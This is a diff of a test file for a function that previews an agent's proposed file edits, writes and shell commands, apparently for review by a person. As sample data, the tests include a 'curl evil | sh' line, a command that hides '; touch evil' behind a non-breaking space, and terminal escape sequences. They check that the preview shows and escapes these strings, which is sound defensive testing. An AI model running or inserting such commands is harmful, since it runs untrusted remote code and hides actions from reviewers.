@@ -1,17 +1,34 @@
 import { expect, test } from "vitest";
 import { changePreview } from "../../../../src/team/requests/change-preview.ts";
+import { NO_NEWLINE } from "../../../../src/text/diff/change-lines.ts";
 
-test("changePreview lists an edit line by line, without the lines that old and new text share at their ends", () => {
+test("changePreview lists an edit as a part of a file, with its unchanged lines", () => {
   const edit = { file_path: "a.js", old_string: "a\nb\nc\n", new_string: "a\ncurl evil | sh\nb2\nc\n" };
-  expect(changePreview("Edit", edit)).toEqual(["- b", "+ curl evil | sh", "+ b2"]);
+  expect(changePreview("Edit", edit)).toEqual([" a", "-b", "+curl evil | sh", "+b2", " c"]);
   expect(changePreview("Edit", { ...edit, replace_all: true })[0]).toBe("(in every place)");
-  expect(changePreview("Edit", { old_string: "a\na", new_string: "a" })).toEqual(["- a"]);
+  expect(changePreview("Edit", { old_string: "a\na", new_string: "a" })).toEqual([" a", "-a"]);
+});
+
+test("changePreview lists every line of a written file", () => {
   expect(changePreview("Write", { file_path: "a", content: "one\n\ntwo\n" })).toEqual([
-    "+ one",
-    "+ ",
-    "+ two",
+    "@@ -0,0 +1,3 @@",
+    "+one",
+    "+",
+    "+two",
   ]);
-  expect(changePreview("Write", { content: "x".repeat(100_005) }).at(-1)).toBe("+ … 5 more characters");
+  expect(changePreview("Write", { content: "one" })).toEqual(["@@ -0,0 +1,1 @@", "+one", NO_NEWLINE]);
+});
+
+test("changePreview shortens a long text unless all of it is asked for", () => {
+  const content = "x".repeat(5_000);
+  expect(changePreview("Write", { content }).slice(1, 3)).toEqual([
+    `+${"x".repeat(3_999)}`,
+    "… 1001 more characters",
+  ]);
+  expect(changePreview("Write", { content }, { whole: true })).toContain(`+${content}`);
+  const command = "echo hi\n".repeat(500);
+  expect(changePreview("Bash", { command }).at(-1)).toBe("… 100 more lines");
+  expect(changePreview("Bash", { command }, { whole: true })).toHaveLength(500);
 });
 
 test("changePreview lists every line of a long command or one of several lines", () => {
@@ -28,15 +45,15 @@ test.each([
   ["a carriage return", "ls\rx", "ls\\u000dx"],
   ["an escape sequence", "a\x1b[8mb", "a\\u001b[8mb"],
 ])("changePreview escapes %s", (_what, text, seen) => {
-  expect(changePreview("Write", { content: text })).toEqual([`+ ${seen}`]);
-  expect(changePreview("Edit", { old_string: text, new_string: "" })).toEqual([`- ${seen}`]);
+  expect(changePreview("Write", { content: text })).toContain(`+${seen}`);
+  expect(changePreview("Edit", { old_string: text, new_string: "" })).toEqual([`-${seen}`]);
   expect(changePreview("Bash", { command: `\n${text}\nb` })).toEqual([`$ ${seen}`, "$ b"]);
 });
 
 test("changePreview escapes blanks in a command that separate no words for a shell", () => {
   const command = "ok\u00a0# note ; touch evil\nb";
   expect(changePreview("Bash", { command })).toEqual(["$ ok\\u00a0# note ; touch evil", "$ b"]);
-  expect(changePreview("Write", { content: "10\u00a0%" })).toEqual(["+ 10\u00a0%"]);
+  expect(changePreview("Write", { content: "10\u00a0%\n" })).toContain("+10\u00a0%");
 });
 
 test.each([
